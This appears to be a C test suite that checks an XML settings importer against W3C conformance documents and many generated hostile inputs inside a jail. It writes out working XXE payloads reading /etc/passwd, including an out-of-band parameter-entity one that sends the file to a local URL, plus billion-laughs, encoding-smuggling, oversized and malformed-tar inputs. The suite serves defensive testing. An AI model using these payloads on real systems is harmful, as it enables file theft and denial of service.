/*
 * test_hostile: the W3C XML conformance documents and a set of attacks, read where nothing but computing is possible.
 */
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include "tests/unit/provisioning/import/jail.h"

#define DOCUMENTS_MAX 8192
#define CPU_MAX_US 3000000              /* processor time of one file: a second, three times that with sanitizers */
#define PEAK_MAX (96U << 20)            /* bytes taken for one file */

static struct jail_report reports[DOCUMENTS_MAX];
static uint64_t longest_us;

/* --- the jail itself --------------------------------------------------------------- */

static int jail_try(void (*what)(void))
{
        int status;
        pid_t child = fork();

        if (child == 0) {
                jail_close();
                what();
                jail_leave(0);
        }
        CHECK(waitpid(child, &status, 0) == child);
        return WIFSIGNALED(status) ? WTERMSIG(status) : 0;
}

static void compute(void)
{
        free(malloc(100));
}

static void open_file(void)
{
        (void)!open("/dev/null", O_RDONLY);
}

static void open_socket(void)
{
        (void)!socket(AF_UNIX, SOCK_STREAM, 0);
}

static void start_process(void)
{
        (void)!fork();
}

TEST(the_jail_kills_whoever_opens_a_file_or_a_socket_or_starts_a_process)
{
        CHECK_EQ_INT(jail_try(compute), 0);
        CHECK_EQ_INT(jail_try(open_file), SIGSYS);
        CHECK_EQ_INT(jail_try(open_socket), SIGSYS);
        CHECK_EQ_INT(jail_try(start_process), SIGSYS);
}

/* What holds for every file, whatever it is. */
static void check_report(const struct jail_report *report, const char *name)
{
        if (report->grown)
                TEST_FAIL("%s: %" PRId64 " bytes are not given back", name, report->grown);
        if (report->peak > PEAK_MAX)
                TEST_FAIL("%s: %" PRIu64 " bytes are taken", name, report->peak);
        if (report->cpu_us > CPU_MAX_US)
                TEST_FAIL("%s: takes %" PRIu64 " us", name, report->cpu_us);
        if (!report->result && !report->has_error && !report->first[0])
                return;
        if (strlen(report->first) < 10)
                TEST_FAIL("%s: refused without a word", name);
}

/* --- the conformance documents ----------------------------------------------------- */

enum verdict { NOT_WELL_FORMED, WELL_FORMED, UNKNOWN };

struct document {
        char name[4096];
        enum verdict verdict;
        bool has_doctype, has_entity;
        uint8_t *bytes;
        size_t size;
        uint8_t *stripped;              /* without its DOCTYPE; NULL: it has none, or cannot do without */
        size_t stripped_size;
};

static struct document documents[DOCUMENTS_MAX];
static unsigned n_documents;

static uint8_t *whole_file(const char *path, size_t *ret_size)
{
        FILE *file = fopen(path, "rb");
        uint8_t *bytes = malloc(1 << 20);

        CHECK(file && bytes);
        *ret_size = fread(bytes, 1, 1 << 20, file);
        fclose(file);
        return realloc(bytes, *ret_size ? *ret_size : 1);
}

static const uint8_t *find(const uint8_t *bytes, size_t size, const char *word)
{
        return memmem(bytes, size, word, strlen(word));
}

/* Also in UTF-16, where every second byte is none. */
static bool has_doctype(const struct document *d)
{
        char narrow[1 << 16];
        size_t n = 0;

        for (size_t i = 0; i < d->size && n < sizeof narrow; i++)
                if (d->bytes[i])
                        narrow[n++] = (char)d->bytes[i];
        return memmem(narrow, n, "<!DOCTYPE", 9);
}

/* An & that is none of the five and no number: it needs the DOCTYPE. */
static bool has_entity(const uint8_t *at, const uint8_t *end)
{
        static const char *const own[] = {"&amp;", "&lt;", "&gt;", "&quot;", "&apos;", "&#"};

        while ((at = memchr(at, '&', (size_t)(end - at)))) {
                bool is_own = false;

                for (size_t i = 0; i < sizeof own / sizeof own[0]; i++)
                        is_own = is_own || ((size_t)(end - at) >= strlen(own[i]) && !memcmp(at, own[i], strlen(own[i])));
                if (!is_own)
                        return true;
                at++;
        }
        return false;
}

/* From <!DOCTYPE to its >, over what stands in quotes, comments and brackets. */
static const uint8_t *doctype_end(const uint8_t *at, const uint8_t *end)
{
        int depth = 0;

        for (; at < end; at++) {
                if ((*at == '"' || *at == '\'')) {
                        at = memchr(at + 1, *at, (size_t)(end - at - 1));
                        if (!at)
                                return NULL;
                } else if (end - at > 4 && !memcmp(at, "<!--", 4)) {
                        at = find(at, (size_t)(end - at), "-->");
                        if (!at)
                                return NULL;
                        at += 2;
                } else if (end - at > 2 && !memcmp(at, "<?", 2)) {
                        at = find(at, (size_t)(end - at), "?>");
                        if (!at)
                                return NULL;
                        at++;
                } else if (*at == '<') {
                        depth++;
                } else if (*at == '>' && --depth == 0) {
                        return at + 1;
                }
        }
        return NULL;
}

static void strip(struct document *d)
{
        const uint8_t *start = find(d->bytes, d->size, "<!DOCTYPE"), *end = d->bytes + d->size, *stop = start ? doctype_end(start, end) : NULL;

        if (!stop || has_entity(stop, end) || memchr(d->bytes, 0, d->size))
                return;
        d->stripped_size = d->size - (size_t)(stop - start);
        d->stripped = malloc(d->stripped_size);
        CHECK(d->stripped);
        memcpy(d->stripped, d->bytes, (size_t)(start - d->bytes));
        memcpy(d->stripped + (start - d->bytes), stop, (size_t)(end - stop));
}

static void add_document(const char *path, enum verdict verdict)
{
        struct document *d = &documents[n_documents];

        CHECK(n_documents < DOCUMENTS_MAX);
        *d = (struct document){.verdict = verdict};
        snprintf(d->name, sizeof d->name, "%s", strncmp(path, DATA_DIR "/", strlen(DATA_DIR) + 1) ? path : path + strlen(DATA_DIR) + 1);
        d->bytes = whole_file(path, &d->size);
        d->has_doctype = has_doctype(d);
        strip(d);
        n_documents++;
}

static int by_name(const struct dirent **a, const struct dirent **b)
{
        return strcmp((*a)->d_name, (*b)->d_name);
}

static void add_folder(const char *folder, enum verdict verdict)
{
        struct dirent **entries;
        char path[4096];
        int n;

        snprintf(path, sizeof path, "%s/%s", DATA_DIR, folder);
        n = scandir(path, &entries, NULL, by_name);
        CHECK(n > 0);
        for (int i = 0; i < n; i++) {
                size_t size = strlen(entries[i]->d_name);

                snprintf(path, sizeof path, "%s/%s/%s", DATA_DIR, folder, entries[i]->d_name);
                if (size > 4 && !strcmp(entries[i]->d_name + size - 4, ".xml"))
                        add_document(path, verdict);
                free(entries[i]);
        }
        free(entries);
}

static void add_more(void);

static void add_all(void)
{
        static const char ibm[] = "plexus-utils2/src/test/resources/xmlconf/ibm/not-wf/";
        static const char *const productions[] = {"P02", "P24", "P32", "P66", "P80"};
        char folder[200];

        if (n_documents)
                return;
        add_folder("pxp/rtests/negative/data_jclark_notwf/sa", NOT_WELL_FORMED);
        add_folder("pxp/rtests/negative/data_jclark_notwf/not-sa", NOT_WELL_FORMED);
        add_folder("pxp/rtests/negative/data_jclark_notwf/ext-sa", NOT_WELL_FORMED);
        for (size_t i = 0; i < sizeof productions / sizeof productions[0]; i++) {
                snprintf(folder, sizeof folder, "%s%s", ibm, productions[i]);
                add_folder(folder, NOT_WELL_FORMED);
        }
        add_folder("pxp/rtests/canonxml/data_jclark_valid/sa", WELL_FORMED);
        add_folder("pxp/rtests/canonxml/data_jclark_valid/not-sa", WELL_FORMED);
        add_folder("pxp/rtests/canonxml/data_jclark_valid/ext-sa", WELL_FORMED);
        add_folder("pxp/rtests/negative/data_jclark_invalid", WELL_FORMED);
        add_more();
}

/* PROVOST_XMLCONF=DIR: every *.xml below it, for instance the whole W3C suite, by hand (docs/import.md). */
static int add_found(const char *path, const struct stat *about, int kind, struct FTW *where)
{
        size_t size = strlen(path);

        (void)about;
        (void)where;
        if (kind == FTW_F && size > 4 && !strcmp(path + size - 4, ".xml"))
                add_document(path, UNKNOWN);
        return 0;
}

static void add_more(void)
{
        const char *folder = getenv("PROVOST_XMLCONF");

        if (folder && n_documents < DOCUMENTS_MAX)
                CHECK_EQ_INT(nftw(folder, add_found, 16, FTW_PHYS), 0);
}

static bool next_document(unsigned i, const char **ret_kind, const uint8_t **ret_bytes, size_t *ret_size)
{
        if (i >= n_documents)
                return false;
        *ret_kind = "settings";
        *ret_bytes = documents[i].bytes;
        *ret_size = documents[i].size;
        return true;
}

/* The same ones without their DOCTYPE, as far as they can do without. */
static bool next_stripped(unsigned i, const char **ret_kind, const uint8_t **ret_bytes, size_t *ret_size)
{
        unsigned at = 0;

        for (; at < n_documents; at++)
                if (documents[at].stripped && i-- == 0)
                        break;
        if (at == n_documents)
                return false;
        *ret_kind = "settings";
        *ret_bytes = documents[at].stripped;
        *ret_size = documents[at].stripped_size;
        return true;
}

static unsigned run(jail_next next, const char *(*name_of)(unsigned))
{
        int status;
        unsigned n = jail_run(next, reports, DOCUMENTS_MAX, &status);

        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS)
                TEST_FAIL("%s made the reader ask the kernel for something", name_of(n));
        if (WIFSIGNALED(status))
                TEST_FAIL("%s ended the reader with signal %d", name_of(n), WTERMSIG(status));
        CHECK_EQ_INT(WEXITSTATUS(status), 0);
        for (unsigned i = 0; i < n; i++) {
                check_report(&reports[i], name_of(i));
                if (reports[i].cpu_us > longest_us)
                        longest_us = reports[i].cpu_us;
        }
        return n;
}

static const char *document_name(unsigned i)
{
        return i < n_documents ? documents[i].name : "the end";
}

static const char *stripped_name(unsigned i)
{
        for (unsigned at = 0; at < n_documents; at++)
                if (documents[at].stripped && i-- == 0)
                        return documents[at].name;
        return "the end";
}

TEST(every_conformance_document_is_refused_and_every_doctype_by_its_name)
{
        unsigned n_doctypes = 0;

        add_all();
        CHECK_EQ_INT(run(next_document, document_name), n_documents);
        for (unsigned i = 0; i < n_documents; i++) {
                const struct document *d = &documents[i];

                if (!reports[i].has_error || reports[i].n_found)
                        TEST_FAIL("%s was taken", d->name);
                if (d->has_doctype && d->verdict == WELL_FORMED && !reports[i].says_doctype)
                        TEST_FAIL("%s has a DOCTYPE, but was refused with: %s", d->name, reports[i].first);
                n_doctypes += d->has_doctype;
        }
        printf("%u documents, %u of them with a DOCTYPE\n", n_documents, n_doctypes);
        CHECK(n_documents > 400 && n_doctypes > 200);
}

/* "A settings file begins with <settings>" is said only of sound XML: the library decides, and decides both ways. */
static bool is_well_formed(const struct jail_report *report)
{
        return strstr(report->first, "a settings file begins with <settings>");
}

TEST(without_their_doctype_sound_documents_are_sound_xml)
{
        unsigned n_sound = 0, n;

        add_all();
        n = run(next_stripped, stripped_name);
        for (unsigned i = 0, at = 0; i < n_documents; i++) {
                if (!documents[i].stripped)
                        continue;
                if (documents[i].verdict == WELL_FORMED && !is_well_formed(&reports[at]))
                        TEST_FAIL("%s was refused with: %s", documents[i].name, reports[at].first);
                n_sound += documents[i].verdict == WELL_FORMED;
                at++;
        }
        printf("%u documents without their DOCTYPE, %u of them sound\n", n, n_sound);
        CHECK(n_sound > 100);
}

TEST(documents_that_are_not_well_formed_are_known_as_such)
{
        unsigned n = 0;

        add_all();
        CHECK_EQ_INT(run(next_document, document_name), n_documents);
        for (unsigned i = 0; i < n_documents; i++) {
                if (documents[i].verdict != NOT_WELL_FORMED || documents[i].has_doctype)
                        continue;
                n++;
                if (is_well_formed(&reports[i]))
                        TEST_FAIL("%s was taken for XML", documents[i].name);
        }
        printf("%u documents that are not well-formed and have no DOCTYPE\n", n);
        CHECK(n > 50);
}

/* --- attacks ----------------------------------------------------------------------- */

static uint8_t attack[13 << 20];
static size_t n_attack;

static void put(const char *text)
{
        size_t size = strlen(text);

        if (sizeof attack - n_attack < size)
                abort();
        memcpy(attack + n_attack, text, size);
        n_attack += size;
}

static void put_bytes(const void *bytes, size_t size)
{
        memcpy(attack + n_attack, bytes, size);
        n_attack += size;
}

__attribute__((format(printf, 1, 2))) static void putf(const char *format, ...)
{
        char text[512];
        va_list args;

        va_start(args, format);
        vsnprintf(text, sizeof text, format, args);
        va_end(args);
        put(text);
}

/* Until the file has this size: what is there is copied behind itself, twice as much each time. */
static void fill(const char *text, size_t size)
{
        size_t start = n_attack, unit = strlen(text), wanted = start + unit <= size ? (size - start) / unit * unit : 0;

        if (wanted)
                put(text);
        while (n_attack - start < wanted) {
                size_t there = n_attack - start, more = there < wanted - there ? there : wanted - there;

                put_bytes(attack + start, more);
        }
}

static void put_times(const char *text, size_t times)
{
        fill(text, n_attack + times * strlen(text));
}

#define ALMOST_ALL ((8U << 20) - 4096)
static const char open_settings[] = "<settings><phone-settings>", close_settings[] = "</phone-settings></settings>";

static void billion_laughs(void)
{
        put("<!DOCTYPE lolz [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 10; i++)
                putf("<!ENTITY l%d \"&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;\">", i, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1,
                     i - 1, i - 1, i - 1);
        put("]><settings><phone-settings><a>&l9;</a></phone-settings></settings>");
}

static void quadratic_blow_up(void)
{
        put("<!DOCTYPE x [<!ENTITY a \"");
        put_times("aaaaaaaaaa", 100000);
        put("\">]><settings><phone-settings><a>");
        put_times("&a;", 100000);
        put("</a></phone-settings></settings>");
}

static void external_entity_file(void)
{
        put("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><settings><phone-settings><a>&a;</a></phone-settings></settings>");
}

static void external_dtd_file(void)
{
        put("<!DOCTYPE settings SYSTEM \"file:///dev/zero\"><settings/>");
}

static void external_dtd_http(void)
{
        put("<!DOCTYPE settings PUBLIC \"-//x\" \"http://127.0.0.1:1/x.dtd\"><settings/>");
}

static void parameter_entities(void)
{
        put("<!DOCTYPE x [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#37; g SYSTEM 'http://127.0.0.1:1/?%f;'>\">%e;%g;]><settings/>");
}

static void recursive_entity(void)
{
        put("<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><settings><phone-settings><a>&a;</a></phone-settings></settings>");
}

static void doctype_in_lower_case(void)
{
        put("<!doctype html><settings/>");
}

static void doctype_after_comments(void)
{
        put_times("<!-- -->", 40000);
        put("<!DOCTYPE x><settings/>");
}

static void doctype_behind_a_broken_declaration(void)
{
        put("<?xml version=\"1.0\" ><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\"> ?>]><settings>&x;</settings>");
}

static void doctype_in_utf_16(void)
{
        static const char text[] = "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><settings/>";

        put("\xff\xfe");
        for (const char *c = text; *c; c++)
                put_bytes((const char[]){*c, 0}, 2);
}

static void entity_without_declaration(void)
{
        put("<settings><phone-settings><a>&xxe;</a></phone-settings></settings>");
}

static void xinclude(void)
{
        put("<settings xmlns:xi=\"http://www.w3.org/2001/XInclude\"><phone-settings><xi:include href=\"/etc/passwd\" parse=\"text\"/>"
            "<a><xi:include href=\"/etc/passwd\" parse=\"text\"/></a></phone-settings></settings>");
}

static void style_sheet(void)
{
        put("<?xml version=\"1.0\"?><?xml-stylesheet href=\"file:///etc/passwd\" type=\"text/xsl\"?><settings/>");
}

static void schema_location(void)
{
        put("<settings xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\"/>");
}

static void attributes_200000(void)
{
        put("<settings><phone-settings><a");
        for (int i = 0; i < 200000; i++)
                putf(" a%d=\"\"", i);
        put("/></phone-settings></settings>");
}

static void attributes_200000_of_one_name(void)
{
        put("<settings><phone-settings><a");
        put_times(" a=\"\"", 200000);
        put("/></phone-settings></settings>");
}

static void namespaces_200000(void)
{
        put("<settings");
        for (int i = 0; i < 200000; i++)
                putf(" xmlns:n%d=\"u\"", i);
        put("/>");
}

static void many_tags_with_many_attributes(void)
{
        put(open_settings);
        for (int i = 0; n_attack < ALMOST_ALL; i++) {
                put("<a");
                for (int k = 0; k < 32; k++)
                        putf(" a%d_%d=\"\"", i, k);
                put("/>");
        }
        put(close_settings);
}

static void depth_200000(void)
{
        put_times("<a>", 200000);
        put_times("</a>", 200000);
}

static void depth_16_with_namespaces(void)
{
        for (int i = 0; i < 16; i++) {
                put("<settings");
                for (int k = 0; k < 30; k++)
                        putf(" xmlns:n%d_%d=\"http://example.com/%d/%d\"", i, k, i, k);
                put(">");
        }
        fill("<n0_0:x/>", ALMOST_ALL);
}

static void depth_16_without_end(void)
{
        put_times("<settings>", 16);
        fill("<x></x>", 300000);
}

static void name_of_12_megabytes(void)
{
        put("<settings><");
        fill("aaaaaaaaaaaaaaaa", 12U << 20);
        put("/></settings>");
}

static void name_that_fills_the_file(void)
{
        put("<settings><");
        fill("aaaaaaaaaaaaaaaa", ALMOST_ALL);
        put("/></settings>");
}

static void attribute_name_that_fills_the_file(void)
{
        put("<settings ");
        fill("aaaaaaaaaaaaaaaa", ALMOST_ALL);
        put("=\"\"/>");
}

static void attribute_value_that_fills_the_file(void)
{
        put("<settings a=\"");
        fill("&#65;", ALMOST_ALL);
        put("\"/>");
}

static void value_that_fills_the_file(void)
{
        put("<settings><phone-settings><a>");
        fill("aaaaaaaaaaaaaaaa", ALMOST_ALL);
        put("</a></phone-settings></settings>");
}

static void value_in_pieces(void)
{
        put("<settings><phone-settings><a>");
        fill("<![CDATA[aaaaaaaaaaaaaaaa]]>aaaaaaaaaaaaaaaaa<!-- -->", ALMOST_ALL);
        put("</a></phone-settings></settings>");
}

static void value_of_numbers(void)
{
        put(open_settings);
        while (n_attack < ALMOST_ALL - 60000) {
                put("<a>");
                put_times("&#x00000000000041;", 3000);
                put("</a>");
        }
        put(close_settings);
}

static void comment_that_fills_the_file(void)
{
        put("<!--");
        fill("- - - - ", ALMOST_ALL);
        put("--><settings/>");
}

static void comment_without_end(void)
{
        put("<settings>");
        fill("<!--", ALMOST_ALL);
}

static void comments_of_a_megabyte(void)
{
        put("<settings>");
        for (int i = 0; i < 7; i++) {
                put("<!--");
                put_times(" - -", 262000);
                put("-->");
        }
        put("</settings>");
}

static void processing_instructions(void)
{
        fill("<?a b?>", ALMOST_ALL);
        put("<settings/>");
}

static void processing_instruction_that_fills_the_file(void)
{
        put("<?a ");
        fill("? ? ? ", ALMOST_ALL);
        put("?><settings/>");
}

static void cdata_that_fills_the_file(void)
{
        put("<settings><phone-settings><a><![CDATA[");
        fill("]] ]] ]]", ALMOST_ALL);
        put("]]></a></phone-settings></settings>");
}

static void a_million_settings(void)
{
        put(open_settings);
        fill("<a/>", ALMOST_ALL);
        put(close_settings);
}

static void as_many_settings_as_are_taken(void)
{
        put(open_settings);
        for (int i = 0; i < 49990; i++)
                putf("<s%d idx=\"%d\" perm=\"R\">value %d</s%d>", i, i % 100, i, i);
        put(close_settings);
}

static void as_many_warnings_as_can_be(void)
{
        put(open_settings);
        fill("<a idx=\"x\"><b/></a>", 400000);
        put(close_settings);
}

static void start_tags_only(void)
{
        fill("<a>", ALMOST_ALL);
}

static void end_tags_only(void)
{
        fill("</a>", ALMOST_ALL);
}

static void opening_brackets_only(void)
{
        fill("<", ALMOST_ALL);
}

static void tags_that_never_close(void)
{
        fill("<a ", ALMOST_ALL);
}

static void quotes_that_never_close(void)
{
        put("<settings>");
        fill("<a b=\"", ALMOST_ALL);
}

static void ampersands_only(void)
{
        put("<settings><phone-settings>");
        while (n_attack < ALMOST_ALL - 60000) {
                put("<a>");
                put_times("&", 60000);
                put("</a>");
        }
        put(close_settings);
}

static void mistakes_only(void)
{
        put("<settings>");
        fill("<a>1<a>\n", ALMOST_ALL);
}

static void lines_only(void)
{
        fill("\n", ALMOST_ALL);
        put("<settings/>");
}

static void every_control_character(void)
{
        put(open_settings);
        for (int c = 1; c < 32; c++)
                putf("<a>%c</a>", c);
        put(close_settings);
}

static void control_characters_by_number(void)
{
        put(open_settings);
        for (int c = 0; c < 32; c++)
                putf("<a>&#%d;</a>", c);
        put(close_settings);
}

static void nuls(void)
{
        put("<settings>");
        memset(attack + n_attack, 0, 1 << 20);
        n_attack += 1 << 20;
}

static void zeros_only(void)
{
        memset(attack, 0, ALMOST_ALL);
        n_attack = ALMOST_ALL;
}

static void utf_7(void)
{
        put("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-+ACE-DOCTYPE x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-<settings/>");
}

static void utf_16_without_mark(void)
{
        put_bytes("<\0s\0e\0t\0t\0i\0n\0g\0s\0/\0>\0", 22);
}

static void utf_16_declared_in_ascii(void)
{
        put("<?xml version=\"1.0\" encoding=\"UTF-16\"?><settings/>");
}

static void utf_16_of_half_characters(void)
{
        put("\xff\xfe");
        for (int i = 0; i < 1000000; i++)
                put_bytes("\x00\xd8", 2);
}

static void utf_16_of_odd_size(void)
{
        put("\xff\xfe");
        put_bytes("<\0a\0/\0>", 7);
}

static void utf_32(void)
{
        put_bytes("\xff\xfe\0\0<\0\0\0a\0\0\0/\0\0\0>\0\0\0", 20);
}

static void utf_8_too_long(void)
{
        put("<settings>\xc0\xbc!DOCTYPE x\xc0\xbe\xe0\x80\xbc\xf0\x80\x80\xbc</settings>");
}

static void utf_8_of_surrogates(void)
{
        put("<settings>\xed\xa0\x80\xed\xb0\x80</settings>");
}

static void latin_1_that_is_none(void)
{
        put("<settings><phone-settings><a>\xe4\xf6\xfc</a></phone-settings></settings>");
}

static void ebcdic(void)
{
        put("\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x6f\x6e");
}

static void encoding_of_a_path(void)
{
        put("<?xml version=\"1.0\" encoding=\"../../../../etc/passwd\"?><settings/>");
}

static void two_documents(void)
{
        put("<settings/><settings/>");
}

static void binary(void)
{
        uint32_t seed = 1;

        while (n_attack < ALMOST_ALL) {
                seed = seed * 1664525 + 1013904223;
                attack[n_attack++] = (uint8_t)(seed >> 24);
        }
}

static void table_of_quotes(void)
{
        put("mac,name\n");
        fill("\"", ALMOST_ALL);
}

static void table_of_commas(void)
{
        put("mac,name\n");
        fill(",", ALMOST_ALL);
}

static void table_of_columns(void)
{
        put("mac");
        fill(",fkey[1]", ALMOST_ALL);
}

static void table_of_wrong_lines(void)
{
        put("mac,name\n");
        fill("x\n", ALMOST_ALL);
}

static void table_of_open_quotes(void)
{
        put("mac,name\n");
        fill("\"\n", ALMOST_ALL);
}

static void table_of_one_phone(void)
{
        put("mac\n");
        fill("000413aabb01\n", 120000);
}

static void text_of_colons(void)
{
        put("language&: x\n");
        fill(":\n", ALMOST_ALL);
}

static void text_of_settings(void)
{
        for (int i = 0; n_attack < ALMOST_ALL; i++)
                putf("user_name%d&: %d\n", i % 10000, i);
}

static void text_of_keys(void)
{
        for (unsigned i = 0; i < 100000; i++)
                putf("fkey%u&: %u\nfkey_context%u&: 1\n", i * 7919 % 10000, i, i * 4729 % 10000);
}

static void text_of_one_line(void)
{
        put("language&: ");
        fill("x", ALMOST_ALL);
}

static void tar_header(const char *name, unsigned long size, char type)
{
        uint8_t *block = attack + n_attack;
        unsigned sum = 0;

        memset(block, 0, 512);
        snprintf((char *)block, 100, "%s", name);
        snprintf((char *)block + 124, 12, "%011lo", size);
        memset(block + 148, ' ', 8);
        block[156] = (uint8_t)type;
        memcpy(block + 257, "ustar\0" "00", 8);
        for (int i = 0; i < 512; i++)
                sum += block[i];
        snprintf((char *)block + 148, 8, "%06o", sum);
        n_attack += 512;
}

static void tar_of_empty_files(void)
{
        for (int i = 0; n_attack + 512 < ALMOST_ALL; i++) {
                char name[32];

                snprintf(name, sizeof name, "000413%06x.xml", i);
                tar_header(name, 0, '0');
        }
}

static void tar_of_folders(void)
{
        while (n_attack + 512 < ALMOST_ALL)
                tar_header("a/", 0, '5');
}

static void tar_of_long_names(void)
{
        while (n_attack + 1536 < ALMOST_ALL) {
                tar_header("././@LongLink", 512, 'L');
                memset(attack + n_attack, 'a', 512);
                n_attack += 512;
        }
}

static void tar_that_lies_about_a_size(void)
{
        tar_header("000413aabb01.xml", 07777777777, '0');
        put("<settings/>");
}

static void tar_of_bombs(void)
{
        for (int i = 0; i < 100; i++) {
                tar_header("x.xml", 512 * 100, '0');
                put("<!DOCTYPE x [<!ENTITY a \"b\">]>");
                while (n_attack % 51712)
                        put(" ");
        }
}

static const struct attack {
        const char *name, *kind;
        void (*make)(void);
        bool is_doctype;
} attacks[] = {
#define XML(name) {#name, "settings", name, false}
#define DOCTYPE(name) {#name, "settings", name, true}, {#name " (auto)", "auto", name, true}
#define OTHER(name, kind) {#name, kind, name, false}
        DOCTYPE(billion_laughs), DOCTYPE(quadratic_blow_up), DOCTYPE(external_entity_file), DOCTYPE(external_dtd_file),
        DOCTYPE(external_dtd_http), DOCTYPE(parameter_entities), DOCTYPE(recursive_entity), DOCTYPE(doctype_in_lower_case),
        DOCTYPE(doctype_after_comments), XML(doctype_behind_a_broken_declaration), DOCTYPE(doctype_in_utf_16),
        XML(entity_without_declaration), XML(xinclude), XML(style_sheet), XML(schema_location), XML(attributes_200000),
        XML(attributes_200000_of_one_name), XML(namespaces_200000), XML(many_tags_with_many_attributes), XML(depth_200000),
        XML(depth_16_with_namespaces), XML(depth_16_without_end), XML(name_of_12_megabytes), XML(name_that_fills_the_file),
        XML(attribute_name_that_fills_the_file), XML(attribute_value_that_fills_the_file), XML(value_that_fills_the_file),
        XML(value_in_pieces), XML(value_of_numbers), XML(comment_that_fills_the_file), XML(comment_without_end),
        XML(comments_of_a_megabyte), XML(processing_instructions), XML(processing_instruction_that_fills_the_file),
        XML(cdata_that_fills_the_file), XML(a_million_settings), XML(as_many_settings_as_are_taken), XML(as_many_warnings_as_can_be),
        XML(start_tags_only), XML(end_tags_only), XML(opening_brackets_only), XML(tags_that_never_close), XML(quotes_that_never_close),
        XML(ampersands_only), XML(mistakes_only), XML(lines_only), XML(every_control_character), XML(control_characters_by_number),
        XML(nuls), XML(zeros_only), XML(utf_7), XML(utf_16_without_mark), XML(utf_16_declared_in_ascii), XML(utf_16_of_half_characters),
        XML(utf_16_of_odd_size), XML(utf_32), XML(utf_8_too_long), XML(utf_8_of_surrogates), XML(latin_1_that_is_none), XML(ebcdic),
        XML(encoding_of_a_path), XML(two_documents), XML(binary), OTHER(binary, "phones"), OTHER(binary, "folder"),
        OTHER(table_of_quotes, "phones"), OTHER(table_of_commas, "phones"), OTHER(table_of_columns, "phones"),
        OTHER(table_of_quotes, "delivery"), OTHER(table_of_commas, "delivery"), OTHER(table_of_columns, "delivery"),
        OTHER(table_of_wrong_lines, "delivery"), OTHER(table_of_open_quotes, "delivery"), OTHER(table_of_one_phone, "delivery"),
        OTHER(table_of_wrong_lines, "phones"), OTHER(table_of_open_quotes, "phones"), OTHER(table_of_one_phone, "phones"),
        OTHER(text_of_colons, "auto"), OTHER(text_of_settings, "auto"), OTHER(text_of_keys, "auto"), OTHER(text_of_one_line, "auto"),
        OTHER(tar_of_empty_files, "auto"), OTHER(tar_of_folders, "auto"), OTHER(tar_of_long_names, "auto"),
        OTHER(tar_that_lies_about_a_size, "auto"), OTHER(tar_of_bombs, "auto"),
};
#define N_ATTACKS (sizeof attacks / sizeof attacks[0])

static const char *attack_name(unsigned i)
{
        return i < N_ATTACKS ? attacks[i].name : "the end";
}

static bool next_attack(unsigned i, const char **ret_kind, const uint8_t **ret_bytes, size_t *ret_size)
{
        if (i >= N_ATTACKS)
                return false;
        n_attack = 0;
        attacks[i].make();
        *ret_kind = attacks[i].kind;
        *ret_bytes = attack;
        *ret_size = n_attack;
        return true;
}

/* These are strange and harmless: what is in them is taken or left out with a word. */
static bool may_be_taken(const char *name)
{
        static const char *const names[] = {"xinclude", "style_sheet", "schema_location", "comments_of_a_megabyte", "as_many_settings_as_are_taken",
                                            "as_many_warnings_as_can_be", "text_of_settings", "text_of_keys", "tar_of_empty_files", "value_of_numbers"};

        for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
                if (!strncmp(name, names[i], strlen(names[i])))
                        return true;
        return false;
}

TEST(no_attack_opens_anything_grows_or_takes_a_second_and_each_is_refused_in_words)
{
        unsigned longest = 0;

        CHECK_EQ_INT(run(next_attack, attack_name), N_ATTACKS);
        for (unsigned i = 0; i < N_ATTACKS; i++) {
                if (getenv("SHOW"))
                        printf("%-50s %8" PRIu64 " us %9" PRIu64 " bytes  %s\n", attacks[i].name, reports[i].cpu_us, reports[i].peak, reports[i].first);
                if (!reports[i].result && !reports[i].has_error && !may_be_taken(attacks[i].name))
                        TEST_FAIL("%s was taken", attacks[i].name);
                if (attacks[i].is_doctype && !reports[i].says_doctype)
                        TEST_FAIL("%s was refused with: %s", attacks[i].name, reports[i].first);
                if (reports[i].cpu_us > reports[longest].cpu_us)
                        longest = i;
        }
        printf("%zu attacks; the longest, %s, took %" PRIu64 " ms; of all files %" PRIu64 " ms\n", N_ATTACKS, attacks[longest].name,
               reports[longest].cpu_us / 1000, longest_us / 1000);
}
